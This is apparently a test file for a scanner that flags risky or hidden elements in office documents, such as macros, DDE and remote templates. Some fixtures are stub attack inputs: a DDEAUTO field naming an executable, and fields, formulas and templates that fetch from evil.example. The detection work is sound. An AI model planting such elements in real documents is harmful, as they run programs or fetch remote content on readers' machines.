// Every kind of finding that issue and threat table name, each against a document of our own that holds it.

import { afterEach, describe, expect, it } from 'vitest';

import { found, odf, rtf, run, slide, styledCell } from '../testing/findings-of.ts';
import { makeDocx, makeXlsx, makeZip } from '../testing/office-maker.ts';
import { unsafeCaptureFrames } from './cage/emit.ts';
import type { Kind } from './kind.ts';

afterEach(() => unsafeCaptureFrames(undefined));

const field = (code: string): string =>
  run(`<w:instrText>${code}</w:instrText>`) + run('<w:fldChar w:fldCharType="end"/>');
const rels = (inner: string): Record<string, string> => ({
  'word/_rels/document.xml.rels': `<Relationships>${inner}</Relationships>`,
});
const outside = (type: string): Record<string, string> =>
  rels(
    `<Relationship Id="a" Type="x/${type}" Target="http://evil.example/a" TargetMode="External"/>`,
  );
const row = (inner: string, more = ''): string =>
  `<sheetData><row r="1"${more}><c r="A1">${inner}</c></row></sheetData>`;
const hidingStyle = (properties: string): string =>
  `<office:automatic-styles><style:style style:name="H">${properties}</style:style></office:automatic-styles>`;

const CASES: readonly (readonly [string, Kind, string, Uint8Array])[] = [
  ['a macro', 'docx', 'macro', makeDocx('', { 'word/vbaProject.bin': 'x' })],
  [
    'a macro sheet',
    'xlsx',
    'macro-sheet',
    makeXlsx([], { parts: { 'xl/macrosheets/sheet1.xml': '<x/>' } }),
  ],
  [
    'a name that opens by itself',
    'xlsx',
    'macro-sheet',
    makeXlsx([], { workbook: '<definedName name="Auto_Open">A!A1</definedName>' }),
  ],
  [
    'a field that fetches',
    'docx',
    'field-code',
    makeDocx(field('INCLUDEPICTURE "http://evil.example/p"')),
  ],
  ['a DDE field', 'docx', 'dde', makeDocx(field('DDEAUTO c:\\\\x.exe "a"'))],
  [
    'a DDE link',
    'xlsx',
    'dde',
    makeXlsx([], {
      parts: { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink/></externalLink>' },
    }),
  ],
  ['an OLE object', 'docx', 'ole-object', makeDocx('', { 'word/embeddings/oleObject1.bin': 'x' })],
  ['an ActiveX control', 'docx', 'activex', makeDocx('', { 'word/activeX/activeX1.xml': '<x/>' })],
  ['a form field', 'docx', 'form-field', makeDocx('<w:sdt><w:sdtContent/></w:sdt>')],
  ['a remote template', 'docx', 'remote-template', makeDocx('', outside('attachedTemplate'))],
  ['a picture from elsewhere', 'docx', 'external-relationship', makeDocx('', outside('image'))],
  ['a link', 'docx', 'link', makeDocx('', outside('hyperlink'))],
  [
    'a data connection',
    'xlsx',
    'connection',
    makeXlsx([], { parts: { 'xl/connections.xml': '<x/>' } }),
  ],
  [
    'a formula that reaches out',
    'xlsx',
    'external-formula',
    makeXlsx([{ name: 'A', xml: row('<f>WEBSERVICE("http://evil.example")</f>') }]),
  ],
  ['custom data', 'docx', 'custom-data', makeDocx('', { 'customXml/item1.xml': '<x/>' })],
  ['a script', 'xlsx', 'script', makeXlsx([], { parts: { 'customUI/customUI.xml': '<x/>' } })],
  ['a signature', 'docx', 'signature', makeDocx('', { '_xmlsignatures/sig1.xml': '<x/>' })],
  ['a film', 'pptx', 'media', makeZip({ 'ppt/media/a.mp4': 'x', 'ppt/presentation.xml': '<x/>' })],
  ['a font', 'docx', 'font-program', makeDocx('', { 'word/fonts/font1.odttf': 'x' })],
  [
    'an author',
    'docx',
    'metadata',
    makeDocx('', { 'docProps/core.xml': '<c xmlns:dc="d"><dc:creator>Bea</dc:creator></c>' }),
  ],
  [
    'a document type',
    'docx',
    'active-element',
    makeDocx('', {
      'word/comments.xml': '<x/>',
      'word/_rels/a.rels': '<!DOCTYPE a SYSTEM "http://evil.example"><x/>',
    }),
  ],
  [
    'a comment',
    'docx',
    'comment',
    makeDocx('', {
      'word/comments.xml':
        '<w:comments xmlns:w="w"><w:comment w:author="Cy"><w:p><w:r><w:t>no</w:t></w:r></w:p></w:comment></w:comments>',
    }),
  ],
  [
    'an insertion',
    'docx',
    'inserted',
    makeDocx('<w:p><w:ins w:author="B"><w:r><w:t>in</w:t></w:r></w:ins></w:p>'),
  ],
  [
    'a deletion',
    'docx',
    'deleted',
    makeDocx('<w:p><w:del w:author="B"><w:r><w:delText>out</w:delText></w:r></w:del></w:p>'),
  ],
  [
    'a move',
    'docx',
    'moved',
    makeDocx('<w:p><w:moveTo w:author="B"><w:r><w:t>to</w:t></w:r></w:moveTo></w:p>'),
  ],
  [
    'hidden words',
    'docx',
    'hidden-text',
    makeDocx(run('<w:rPr><w:vanish/></w:rPr><w:t>secret</w:t>')),
  ],
  [
    'a hidden sheet',
    'xlsx',
    'hidden-sheet',
    makeXlsx([{ name: 'A', state: 'hidden', xml: row('<v>7</v>') }]),
  ],
  [
    'a hidden row',
    'xlsx',
    'hidden-row-or-column',
    makeXlsx([{ name: 'A', xml: row('<v>7</v>', ' hidden="1"') }]),
  ],
  [
    'a hidden column',
    'xlsx',
    'hidden-row-or-column',
    makeXlsx([
      { name: 'A', xml: `<cols><col min="1" max="1" hidden="1"/></cols>${row('<v>7</v>')}` },
    ]),
  ],
  ['a hidden slide', 'pptx', 'hidden-slide', slide('<a:t>plan b</a:t>', ' show="0"')],
  [
    'speaker notes',
    'pptx',
    'speaker-notes',
    makeZip({
      'ppt/notesSlides/notesSlide1.xml':
        '<p:notes xmlns:p="p" xmlns:a="a"><a:t>say less</a:t></p:notes>',
    }),
  ],
  ['an action of a slide', 'pptx', 'action', slide('<a:hlinkClick action="ppaction://program"/>')],
  [
    'an annotation of OpenDocument',
    'odt',
    'comment',
    odf('<office:annotation><dc:creator>B</dc:creator><text:p>no</text:p></office:annotation>'),
  ],
  [
    'hidden words of OpenDocument',
    'odt',
    'hidden-text',
    odf('<text:hidden-text text:string-value="secret"/>'),
  ],
  [
    'a script of OpenDocument',
    'odt',
    'script',
    odf('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'),
  ],
  [
    'a hidden sheet of OpenDocument',
    'ods',
    'hidden-sheet',
    odf('<table:table table:name="B" table:display="false"/>'),
  ],
  [
    'an insertion of OpenDocument',
    'odt',
    'inserted',
    odf(
      '<text:tracked-changes><text:changed-region text:id="c"><text:insertion><dc:creator>B</dc:creator></text:insertion></text:changed-region></text:tracked-changes><text:p><text:change-start text:change-id="c"/>shall<text:change-end text:change-id="c"/></text:p>',
    ),
  ],
  [
    'a style of OpenDocument that hides words',
    'odt',
    'hidden-text',
    odf(
      `${hidingStyle('<style:text-properties text:display="none"/>')}<text:p>seen <text:span text:style-name="H">unseen</text:span></text:p>`,
    ),
  ],
  [
    'a hidden section of OpenDocument',
    'odt',
    'hidden-text',
    odf('<text:section text:display="none"><text:p>floor</text:p></text:section>'),
  ],
  [
    'a hidden sheet of OpenDocument by its style',
    'ods',
    'hidden-sheet',
    odf(
      `${hidingStyle('<style:table-properties table:display="false"/>')}<table:table table:name="B" table:style-name="H"/>`,
    ),
  ],
  [
    'a hidden row of OpenDocument',
    'ods',
    'hidden-row-or-column',
    odf('<table:table-row table:visibility="collapse"><text:p>7</text:p></table:table-row>'),
  ],
  [
    'a hidden slide of OpenDocument',
    'odp',
    'hidden-slide',
    odf(
      `${hidingStyle('<style:drawing-page-properties presentation:visibility="hidden"/>')}<draw:page draw:style-name="H"><text:p>plan b</text:p></draw:page>`,
    ),
  ],
  [
    'notes of OpenDocument',
    'odp',
    'speaker-notes',
    odf(
      '<draw:page><presentation:notes><text:p>say less</text:p></presentation:notes></draw:page>',
    ),
  ],
  ['a form of OpenDocument', 'odt', 'form-field', odf('<form:checkbox form:name="agree"/>')],
  [
    'a section of another file',
    'odt',
    'external-relationship',
    odf('<text:section-source xlink:href="../other.odt"/>'),
  ],
  [
    'custom data of OpenDocument',
    'odt',
    'custom-data',
    odf('', {
      'meta.xml':
        '<office:document-meta xmlns:office="o" xmlns:meta="m"><meta:user-defined meta:name="desk">7</meta:user-defined></office:document-meta>',
    }),
  ],
  [
    'words hidden by a style',
    'docx',
    'hidden-text',
    makeDocx(run('<w:rPr><w:rStyle w:val="H"/></w:rPr><w:t>secret</w:t>'), {
      'word/styles.xml':
        '<w:styles xmlns:w="w"><w:style w:styleId="H"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>',
    }),
  ],
  ['an old form field', 'docx', 'form-field', makeDocx(run('<w:ffData><w:checkBox/></w:ffData>'))],
  [
    'a deletion under another prefix',
    'docx',
    'deleted',
    makeZip({
      'word/document.xml':
        '<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:body><x:p><x:del x:author="B"><x:r><x:delText>out</x:delText></x:r></x:del></x:p></x:body></x:document>',
    }),
  ],
  [
    'a hidden shape',
    'pptx',
    'hidden-text',
    slide('<p:sp><p:cNvPr hidden="1"/><a:t>plan b</a:t></p:sp>'),
  ],
  [
    'an answer to a comment',
    'pptx',
    'reply',
    makeZip({
      'ppt/authors.xml':
        '<p188:authorLst xmlns:p188="p"><p188:author id="{1}" name="Bo"/></p188:authorLst>',
      'ppt/comments/modernComment_1.xml':
        '<p188:cmLst xmlns:p188="p" xmlns:a="a"><p188:cm authorId="{1}"><p188:replyLst><p188:reply authorId="{1}"><a:t>no</a:t></p188:reply></p188:replyLst><a:t>yes?</a:t></p188:cm></p188:cmLst>',
    }),
  ],
  [
    'white words of a cell',
    'xlsx',
    'invisible-text',
    styledCell(
      '<fonts><font/><font><color rgb="FFFFFFFF"/></font></fonts><cellXfs><xf/><xf fontId="1" fillId="0"/><xf fontId="1" fillId="2"/></cellXfs>',
    ),
  ],
  [
    'words beside a slide',
    'pptx',
    'off-page-text',
    makeZip({
      'ppt/presentation.xml':
        '<p:presentation xmlns:p="p"><p:sldSz cx="100" cy="50"/></p:presentation>',
      'ppt/slides/slide1.xml':
        '<p:sld xmlns:p="p" xmlns:a="a"><p:sp><p:spPr><a:xfrm><a:off x="-90" y="0"/><a:ext cx="80" cy="10"/></a:xfrm></p:spPr><a:p><a:t>plan b</a:t></a:p></p:sp></p:sld>',
    }),
  ],
  [
    'words beside a slide of OpenDocument',
    'odp',
    'off-page-text',
    odf(
      '<draw:page><draw:frame xmlns:svg="s" svg:x="30cm" svg:y="1cm" svg:width="5cm" svg:height="2cm"><text:p>plan b</text:p></draw:frame></draw:page>',
      {
        'styles.xml':
          '<s xmlns:style="y" xmlns:fo="f"><style:page-layout-properties fo:page-width="28cm" fo:page-height="21cm"/></s>',
      },
    ),
  ],
  ['an object in RTF', 'rtf', 'ole-object', rtf('{\\object\\objemb{\\*\\objdata 00}}')],
  ['a template in RTF', 'rtf', 'remote-template', rtf('{\\*\\template http://evil.example/t}')],
];

describe('the report names', () => {
  it.each(CASES)('%s', async (_, kind, word, bytes) => {
    const { kinds } = await found(kind, bytes);
    expect([...kinds]).toContain(word);
  });

  it('who wrote a comment of a thread, and where', async () => {
    const { findings } = await found(
      'xlsx',
      makeXlsx([], {
        parts: {
          'xl/persons/person.xml': '<personList><person displayName="Bo" id="{1}"/></personList>',
          'xl/threadedComments/threadedComment1.xml':
            '<ThreadedComments><threadedComment ref="B2" personId="{1}"><text>our floor is 5</text></threadedComment></ThreadedComments>',
        },
      }),
    );
    expect(findings.remarks).toEqual([
      { what: 'comment', author: 'Bo', text: 'B2: our floor is 5', page: null },
    ]);
  });

  it('nothing in documents that hold nothing', async () => {
    const plain: readonly (readonly [Kind, Uint8Array])[] = [
      ['docx', makeDocx(run('<w:t>words</w:t>'))],
      ['xlsx', makeXlsx([{ name: 'A', xml: row('<f>1+1</f><v>2</v>') }])],
      ['pptx', slide('<a:t>words</a:t>')],
      ['odt', odf('<text:p>words</text:p>')],
      ['rtf', rtf(' words')],
    ];
    for (const [kind, bytes] of plain)
      expect([kind, ...(await found(kind, bytes)).kinds]).toEqual([kind]);
  });
});
